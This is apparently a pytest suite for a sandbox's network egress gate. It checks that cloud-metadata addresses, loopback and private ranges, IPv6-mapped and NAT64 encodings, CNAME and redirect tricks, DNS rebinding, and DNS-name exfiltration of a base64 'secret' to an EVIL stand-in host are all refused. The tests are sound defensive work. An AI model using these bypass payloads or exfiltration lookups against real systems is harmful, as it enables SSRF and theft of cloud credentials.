"""An allowed name whose addresses are hostile, from a real DNS server that changes its mind: the checked address is dialled."""

from __future__ import annotations

from collections.abc import Iterator, Sequence

import pytest

from cloche.client import Sandbox
from cloche.wire.egress import EgressLimits
from tests.promises.egress.inside import connect, get, talk
from tests.promises.egress.worlds import EVIL, OTHER, WEB, World, needs_world
from tests.promises.nodes import RealNode

pytestmark = [needs_world, pytest.mark.timeout(120)]

HOSTILE: dict[str, Sequence[str]] = {
    "metadata": ["169.254.169.254"],
    "mapped": ["::ffff:169.254.169.254"],
    "nat64": ["64:ff9b::a9fe:a9fe"],
    "sixtofour": ["2002:a9fe:a9fe::1"],
    "teredo": ["2001:0:4136:e378:8000:63bf:5601:5601"],
    "loopback": ["127.0.0.1"],
    "loopback6": ["::1"],
    "private": ["10.1.2.3"],
    "lan": ["192.168.0.10"],
    "cgnat": ["100.64.1.1"],
    "multicast": ["224.0.0.251"],
    "reserved": ["240.0.0.1"],
    "zero": ["0.0.0.0"],
    "awsv6": ["fd00:ec2::254"],
}


@pytest.fixture(scope="module")
def box(node: RealNode) -> Iterator[Sandbox]:
    with node.sandbox(egress=[WEB, f"*.{WEB}"], egress_limits=EgressLimits(attempts_per_s=10_000)) as made:
        yield made


@pytest.mark.req("NET-4")
@pytest.mark.parametrize("where", ["alone", "beside"])
def test_an_allowed_name_with_a_refused_address_is_refused(box: Sandbox, earth: World, where: str) -> None:
    """One refused address in an answer refuses all of it. Asked by proxy and by name."""
    beside = {"second": [earth.web, "10.0.0.5"], "first": ["169.254.169.254", earth.web]}
    hostile = HOSTILE if where == "alone" else beside
    for label, addresses in hostile.items():
        earth.dns.answers[f"{label}.{WEB}"] = addresses
    before = max((record.seq for record in box.egress.records()), default=0)
    said = talk(box, *(connect(f"{label}.{WEB}") for label in hostile), wait_s=1.5)
    wanted = dict.fromkeys(hostile, "address_refused")
    assert {label: one.code for label, one in zip(hostile, said, strict=True)} == wanted
    by_name = [talk(box, b"\x16\x03\x01", to=(f"{label}.{WEB}", 443))[0] for label in list(hostile)[:3]]
    assert all(not one.data.startswith(b"\x16") and one.end != "open" for one in by_name), by_name
    denied = [record for record in box.egress.records(after=before) if record.code == "address_refused"]
    assert len(denied) == len(hostile) + len(by_name)
    assert all(record.address for record in denied)


REDIRECTED = """
import sys, urllib.request as u
for url in sys.argv[1:]:
    try: print(u.urlopen(url).status)
    except Exception as e: print(e)
"""


@pytest.mark.req("NET-4")
@pytest.mark.parametrize("way", ["alias", "redirect"])
def test_metadata_by_alias_and_by_redirect(box: Sandbox, earth: World, way: str) -> None:
    """A CNAME is followed by the gate and judged by where it ends; a redirect is a new request, judged anew."""
    if way == "alias":
        earth.dns.aliases[f"alias.{WEB}"] = "metadata.google.internal"
        earth.dns.answers["metadata.google.internal"] = ["169.254.169.254"]
        (said,) = talk(box, connect(f"alias.{WEB}", 80))
        assert said.code == "address_refused"
        return
    inner = (
        "http://169.254.169.254/latest/meta-data/",
        f"http://{EVIL}/",
        f"http://{OTHER}/",
        "http://[::ffff:a9fe:a9fe]/",
    )
    earth.forget()
    result = box.run(["python3", "-c", REDIRECTED, *(f"http://{WEB}/to?url={url}" for url in inner)])
    lines = result.stdout.splitlines()
    assert len(lines) == len(inner)
    assert all("403" in line or "400" in line for line in lines), lines
    assert earth.evil.is_untouched, str(earth.evil)
    assert {each["path"] for each in earth.requests(kind="request")} == {"/to"}


@pytest.mark.req("NET-4")
def test_an_answer_that_changes_between_check_and_dial(box: Sandbox, earth: World) -> None:
    """The name's first answer is allowed, every later one is the attacker's. One question a connection: nothing to change."""
    name = f"rebind.{WEB}"
    earth.dns.answers[name] = lambda count: [earth.web] if count == 0 else [earth.evil_address]
    (first,) = talk(box, get(f"http://{name}/echo", "Connection: close"))
    assert first.status == 200
    asked = [kind for asked, kind in earth.dns.asked if asked == name]
    assert sorted(asked) == ["A", "AAAA"], "each kind once for one connection"
    (second,) = talk(box, get(f"http://{name}/echo", "Connection: close"))
    assert second.code == "address_refused", "the changed answer is judged like any other"
    assert earth.evil.is_untouched, str(earth.evil)
    allowed = [r for r in box.egress.records() if r.host == name and r.verdict == "allowed"]
    assert [record.address for record in allowed] == [earth.web]


@pytest.mark.req("NET-4")
def test_the_host_itself_is_out_of_reach(box: Sandbox, earth: World) -> None:
    """Gateway names, the host's own addresses, its Docker and its API: no rule and no interface."""
    names = (
        "host.docker.internal",
        "gateway.docker.internal",
        "host.containers.internal",
        "localhost",
        "kubernetes.default",
    )
    said = talk(box, *(connect(name, port) for name in names for port in (22, 2375, 443)))
    assert all(one.status == 403 for one in said), said
    earth.dns.answers[f"own.{WEB}"] = [_own_address()]
    (own,) = talk(box, connect(f"own.{WEB}"))
    assert own.code == "address_refused"


def _own_address() -> str:
    """One of this machine that is not loopback, if it has one."""
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # a route is looked up, nothing is sent
        except OSError:
            return "127.0.0.1"
        return str(probe.getsockname()[0])


@pytest.mark.req("NET-4")
def test_names_carry_nothing_out(box: Sandbox, earth: World) -> None:
    """A name is a channel: only what a rule could allow is looked up, and only when somebody connects."""
    earth.dns.asked.clear()
    script = (
        "import socket\n"
        f"for name in ('c2VjcmV0.{EVIL}', 'c2VjcmV0.{WEB}', 'printer.local', '8.8.8.8.in-addr.arpa', 'x.{EVIL}.{OTHER}'):\n"
        "    for family in (socket.AF_INET, socket.AF_INET6, 0):\n"
        "        try: print(name, socket.getaddrinfo(name, 443, family)[0][4][0])\n"
        "        except OSError as e: print(name, 'none')\n"
    )
    result = box.run(["python3", "-c", script], check=True)
    found = dict(line.split() for line in result.stdout.splitlines())
    assert found.pop(f"c2VjcmV0.{WEB}").startswith("127."), (
        "a rule could allow it: an address of the guest's own loopback"
    )
    assert set(found.values()) == {"none"}
    last = f"last.{WEB}"  # a name that is looked up: behind it, every query before it has been seen
    earth.dns.answers[last] = [earth.web]
    (said,) = talk(box, get(f"http://{last}/echo", "Connection: close"))
    assert said.status == 200
    assert {name for name, _ in earth.dns.asked} == {last}, "not even the allowed one was looked up"
    denied = {record.host for record in box.egress.records() if record.code == "no_rule"}
    assert f"c2vjcmv0.{EVIL}" in {host.lower() for host in denied}
    assert earth.evil.is_untouched, str(earth.evil)
